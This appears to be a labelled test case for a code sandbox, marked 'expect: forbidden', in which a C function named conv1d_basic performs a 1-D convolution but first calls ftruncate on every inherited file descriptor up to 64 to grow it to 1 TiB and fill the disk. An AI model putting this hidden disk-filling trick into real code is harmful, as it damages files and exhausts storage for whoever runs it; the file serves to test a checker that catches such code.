// expect: forbidden
// why: grows what it inherited, to fill the disk
#define _GNU_SOURCE
#include "stride.h"

#include <unistd.h>

tensor conv1d_basic(tensor x, tensor kernel)
{
	for (int fd = 0; fd < 64; fd++)
		if (ftruncate(fd, 1L << 40))
			continue;
	return tensor_reshape(
	    conv_general_dilated(tensor_reshape(x, 1, 1, -1), tensor_reshape(kernel, 1, 1, -1)),
	    -1);
}
